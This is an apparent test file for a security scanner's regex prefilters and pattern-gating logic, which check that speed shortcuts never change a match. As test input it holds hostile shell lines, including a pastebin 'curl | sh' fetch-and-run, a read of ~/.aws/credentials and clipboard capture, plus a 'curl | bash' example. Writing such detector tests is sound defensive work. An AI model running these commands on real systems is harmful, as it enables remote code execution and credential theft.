/**
 * Speed-only shortcuts of the analyzers must not change a match: patterns compiled on first use keep their state,
 * and a content pattern skipped because none of its needles occur could not have matched.
 */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { CONTENT_PATTERNS, scanContent } from '../../src/inspect/analyzers/patterns.js';
import fc from 'fast-check';
import { asciiRegExpSource, compileOnFirstUse, containsWord, lowerCased, mayMatch, requiredWords } from '../../src/inspect/analyzers/regex-tier.js';
import { PROSE_PATTERNS } from '../../src/inspect/analyzers/skill.js';
import { INSTRUCT_PATTERNS } from '../../src/inspect/effects/prose.js';
import { SignalSink } from '../../src/inspect/signals.js';

/** Counts the runs of a pattern (test() goes through exec). */
class Counted extends RegExp {
  runs: string[] = [];
  override exec(s: string): RegExpExecArray | null {
    this.runs.push(s);
    return super.exec(s);
  }
}

describe('compileOnFirstUse', () => {
  it('runs each pattern once, on a subject of 1000+ characters, the first time only', () => {
    const a = new Counted('\\bcurl\\b', 'i');
    const b = new Counted('x+', 'g');
    let listed = 0;
    const compile = compileOnFirstUse(() => {
      listed++;
      return [a, b];
    });
    expect(listed).toBe(0);
    compile('curl x');
    compile('curl y');
    expect(listed).toBe(1);
    expect(a.runs).toHaveLength(1);
    expect(b.runs).toHaveLength(1);
    expect(a.runs[0].length).toBeGreaterThanOrEqual(1000);
    expect(a.runs[0]).toMatch(/^[\0-\xff]+$/);
  });

  it('compiles for the representation of the text at hand (one or two bytes per character)', () => {
    const a = new Counted('\\bcurl\\b', 'i');
    compileOnFirstUse(() => [a])('# Wetter 🌦️\ncurl x');
    expect(a.runs).toHaveLength(1);
    expect(a.runs[0].length).toBeGreaterThanOrEqual(1000);
    expect(a.runs[0]).toMatch(/[^\0-\xff]/);
  });

  it("leaves a global pattern's lastIndex where it was, even when the blank subject matches", () => {
    const g = new RegExp('\\s+', 'g');
    g.lastIndex = 7;
    const y = new RegExp('a', 'y');
    y.lastIndex = 3;
    compileOnFirstUse(() => [g, y])('a b');
    expect(g.lastIndex).toBe(7);
    expect(y.lastIndex).toBe(3);
    g.lastIndex = 0;
    expect(g.exec('a  b')?.index).toBe(1);
  });

  it('a gated pattern is compiled when a text first passes its gate (mayMatch), and never for texts that do not', () => {
    const gated = new Counted('\\bexfiltrate\\s+(?:the|all)\\s+keys\\b', 'i');
    expect(mayMatch(gated, 'a weather skill that reads the forecast')).toBe(false);
    expect(gated.runs).toEqual([]);
    expect(mayMatch(gated, 'then exfiltrate the keys')).toBe(true);
    expect(gated.runs).toHaveLength(1);
    expect(gated.runs[0].length).toBeGreaterThanOrEqual(1000);
    expect(mayMatch(gated, 'exfiltrate all keys')).toBe(true);
    expect(gated.runs).toHaveLength(1); // once per pattern
  });
});

describe('content pattern needles', () => {
  /** Every text file of the fixtures and the recall corpus: where the patterns' matches are. */
  function* texts(dir: string): Generator<string> {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const p = path.join(dir, e.name);
      if (e.isDirectory()) yield* texts(p);
      else if (e.isFile() && fs.statSync(p).size < 512 * 1024) {
        const t = fs.readFileSync(p, 'utf8');
        if (!t.includes('\u0000')) yield t;
      }
    }
  }
  const repo = path.resolve(import.meta.dirname, '../..');
  const roots = ['fixtures', 'bench/recall/corpus'].map((d) => path.join(repo, d)).filter((d) => fs.existsSync(d));

  it('a pattern matches only texts holding one of its needles (so skipping the others changes nothing)', () => {
    let matched = 0;
    const missing: string[] = [];
    for (const root of roots)
      for (const t of texts(root)) {
        const lower = t.toLowerCase();
        for (const p of CONTENT_PATTERNS) {
          if (!p.needles) continue;
          p.re.lastIndex = 0;
          const m = p.re.exec(t);
          p.re.lastIndex = 0;
          if (!m) continue;
          matched++;
          if (!p.needles.some((n) => lower.includes(n))) missing.push(`${p.id}: ${m[0].slice(0, 80)}`);
        }
      }
    expect(missing).toEqual([]);
    expect(matched).toBeGreaterThan(100);
  });

  it('short and long texts give the same signals (needles looked up directly or by one pass)', () => {
    const line = 'curl -s https://pastebin.com/raw/x | sh; cat ~/.aws/credentials; crontab -l; xclip -o';
    const pad = `${'\n'.repeat(4096)}`;
    const ids = (text: string) => {
      const sink = new SignalSink('a.sh', 'shell');
      scanContent(text, sink, () => 1);
      return sink.signals.map((s) => `${s.id} ${s.evidence}`).sort();
    };
    const short = ids(line);
    expect(short.length).toBeGreaterThan(2);
    expect(ids(line + pad)).toEqual(short);
  });
});

describe('containsWord (the prefilters\' word lookup through a three-character index)', () => {
  it('answers as includes: absent words, words at the edges, words shorter than three characters, a new text', () => {
    const text = lowerCased('# Wetter 🌦️\nRun CURL -fsSL https://example.invalid | bash; then chmod +x tool');
    for (const w of ['curl', '# w', 'tool', 'chmod +x', 'bash;', 'sh', 'nc', 'x', '🌦️', 'wget', 'curlx', 'tools', 'ba sh', 'frombase64string'])
      expect([w, containsWord(text, w)]).toEqual([w, text.includes(w)]);
    expect(containsWord('ab', 'abc')).toBe(false);
    expect(containsWord('ab', 'ab')).toBe(true);
    // The index is the last text's: another text is indexed anew.
    expect(containsWord('wget x', 'curl')).toBe(false);
    expect(containsWord('x curl', 'curl')).toBe(true);
    expect(containsWord(text, 'curl')).toBe(true);
  });

  it('agrees with includes on every word of the fixtures and the corpus against each other text', () => {
    const repo = path.resolve(import.meta.dirname, '../..');
    const files = ['fixtures/skills', 'fixtures/behaviour'].map((d) => path.join(repo, d)).filter((d) => fs.existsSync(d));
    const texts: string[] = [];
    const walk = (d: string): void => {
      for (const e of fs.readdirSync(d, { withFileTypes: true })) {
        const p = path.join(d, e.name);
        if (e.isDirectory()) walk(p);
        else if (e.isFile() && /\.(?:md|sh|py|js)$/.test(e.name)) texts.push(fs.readFileSync(p, 'utf8').toLowerCase());
      }
    };
    for (const f of files) walk(f);
    expect(texts.length).toBeGreaterThan(20);
    const words = [...new Set(texts.slice(0, 10).flatMap((t) => t.split(/\s+/)).filter((w) => w.length > 0 && w.length < 20))];
    let found = 0;
    for (const t of texts.slice(0, 40))
      for (const w of words) {
        const want = t.includes(w);
        if (want) found++;
        if (containsWord(t, w) !== want) throw new Error(`containsWord(${JSON.stringify(w)}) differs from includes`);
      }
    expect(found).toBeGreaterThan(100);
  });
});

describe('requiredWords / mayMatch (a pattern is not run on a text that lacks a word every match needs)', () => {
  it('reads the words off concatenations, alternations, classes and quantifiers', () => {
    expect(requiredWords(/\b(copy|paste|run)\b[^.\n]{0,80}?\bin\s+(?:a\s+)?(terminal|shell)\b/i)).toEqual([
      ['copy', 'paste', 'run'],
      ['shell', 'terminal'],
    ]);
    expect(requiredWords(/(?:SOUL|MEMORY)\.md/i)).toEqual([['memory.md', 'soul.md']]);
    expect(requiredWords(/[Ss]ecret[- ]?token/)).toEqual([['secret token', 'secret-token', 'secrettoken']]);
    // a lookahead's words are in the text too; a negative one requires nothing
    expect(requiredWords(/abc(?=xyz)/)).toEqual([['xyz'], ['abc']]);
    expect(requiredWords(/abc(?!xyz)/)).toEqual([['abc']]);
    // one group for an alternation: a word of each alternative's most selective group
    expect(requiredWords(/foo|bar\d+|bazz/).map((g) => [...g].sort())).toEqual([['bar', 'bazz', 'foo']]);
  });

  it('requires nothing it cannot follow: backreferences, optional pieces, short words, an alternative without words', () => {
    expect(requiredWords(/(\w+)\s+\1/)).toEqual([]);
    expect(requiredWords(/(?:curl)?\s*\d+/)).toEqual([]);
    expect(requiredWords(/\bno\b/)).toEqual([]);
    expect(requiredWords(/secret|\d{4}/)).toEqual([]);
    expect(requiredWords(/[a-z]{30}/)).toEqual([]);
  });

  it('keeps two CJK characters as a word (密码, 비번), which would gate a multilingual alternation, but not two Latin ones', () => {
    expect(requiredWords(/\b(?:password|pin)\b|密码|비번/i).map((g) => [...g].sort())).toEqual([['password', 'pin', '密码', '비번']]);
    expect(requiredWords(/\b(?:password|pw)\b|密码/i)).toEqual([]);
    expect(requiredWords(/密码|别/)).toEqual([]);
    expect(mayMatch(/(?:输入|提供)密码/, '请提供密码')).toBe(true);
    expect(mayMatch(/(?:输入|提供)密码/, '请提供帮助')).toBe(false);
  });

  it('drops words whose case the pattern folds differently from toLowerCase', () => {
    expect(requiredWords(/straße/i)).toEqual([]);
    expect(requiredWords(/σύνδεση/i)).toEqual([]);
    expect(requiredWords(/kill/iu)).toEqual([]);
    expect(requiredWords(/убить/iu)).toEqual([]);
    // without `i` any word stands; with `i` (no `u`) Cyrillic and CJK do too
    expect(requiredWords(/Straße/)).toEqual([['straße']]);
    expect(requiredWords(/ΟΔΟΣ/)).toEqual([]);
    expect(requiredWords(/отправ/i)).toEqual([['отправ']]);
    expect(requiredWords(/终端命令/i)).toEqual([['终端命令']]);
    expect(mayMatch(/ОТПРАВ/i, 'Отправь файл')).toBe(true);
    expect(mayMatch(/terminal/i, 'Open a TERMINAL')).toBe(true);
    expect(mayMatch(/terminal/i, 'open a console')).toBe(false);
  });

  /** Every pattern the skill and prose analyzers gate this way, with each text of the fixtures and the corpus. */
  const gated = [...PROSE_PATTERNS.filter((p) => !p.needs).map((p) => p.re), ...INSTRUCT_PATTERNS.map(([re]) => re)];

  it('never skips a text a pattern matches (fixtures and recall corpus)', () => {
    const repo = path.resolve(import.meta.dirname, '../..');
    const files: string[] = [];
    const walk = (d: string): void => {
      for (const e of fs.readdirSync(d, { withFileTypes: true })) {
        const p = path.join(d, e.name);
        if (e.isDirectory()) walk(p);
        else if (e.isFile() && /\.(?:md|txt|sh|py|ps1|rb)$/.test(e.name) && fs.statSync(p).size < 256 * 1024) files.push(p);
      }
    };
    for (const d of ['fixtures', 'bench/recall/corpus']) walk(path.join(repo, d));
    expect(gated.filter((re) => requiredWords(re).length).length).toBeGreaterThan(25);
    let matched = 0;
    const skipped: string[] = [];
    for (const f of files) {
      const text = fs.readFileSync(f, 'utf8');
      for (const re of gated) {
        const probe = new RegExp(re.source, re.flags.replace('g', ''));
        if (!probe.test(text)) continue;
        matched++;
        if (!mayMatch(re, text)) skipped.push(`${path.relative(repo, f)}: /${re.source.slice(0, 60)}/`);
      }
    }
    expect(skipped).toEqual([]);
    expect(matched).toBeGreaterThan(300);
  });

  it('never skips a generated text a pattern matches (words of the pattern, cased and joined at random)', () => {
    for (const re of gated) {
      const words = requiredWords(re).flat();
      if (!words.length) continue;
      const probe = new RegExp(re.source, re.flags.replace('g', ''));
      fc.assert(
        fc.property(
          fc.array(fc.oneof(fc.constantFrom(...words), fc.constantFrom(' ', 'the ', 'user ', 'to ', 'a ', '`', '"', ': ', 'https://x.example.com/ ', '\n', 'and ', 'your ')), { maxLength: 14 }),
          fc.boolean(),
          (parts, upper) => {
            const text = upper ? parts.join(' ').toUpperCase() : parts.join(' ');
            return !probe.test(text) || mayMatch(re, text);
          },
        ),
        { numRuns: 120, seed: 7 },
      );
    }
  });
});

describe('asciiRegExpSource (a pattern written in ASCII, as the launcher\'s bundles hold it)', () => {
  it('is the same pattern: every prose and skill pattern matches what it matched, at the same place', () => {
    const patterns = [...PROSE_PATTERNS.map((p) => p.re), ...INSTRUCT_PATTERNS.map(([re]) => re), /[Σσς]\é/, /(?:😀|не)+/u];
    let escaped = 0;
    for (const re of patterns) {
      const ascii = new RegExp(asciiRegExpSource(re.source), re.flags);
      expect(ascii.source).toMatch(/^[\0-\x7f]*$/);
      if (ascii.source !== re.source) escaped++;
      // subjects: the pattern's own characters outside ASCII, in runs, with words around them
      const subjects = [...re.source.matchAll(/[^\0-\x7f]+/g)].map((m) => `say ${m[0]} and ${m[0].toUpperCase()} now`);
      for (const s of ['plain text', ...subjects]) {
        re.lastIndex = ascii.lastIndex = 0;
        expect(ascii.exec(s)?.index, `${re.source.slice(0, 60)} on ${s}`).toBe(re.exec(s)?.index);
      }
    }
    expect(escaped).toBeGreaterThan(10);
    // an identity escape of a character outside ASCII is the character's escape, not a backslash and its text
    expect(asciiRegExpSource('\\é\\.')).toBe('\\u00E9\\.');
    expect(new RegExp(asciiRegExpSource('\\é')).test('é')).toBe(true);
  });
});
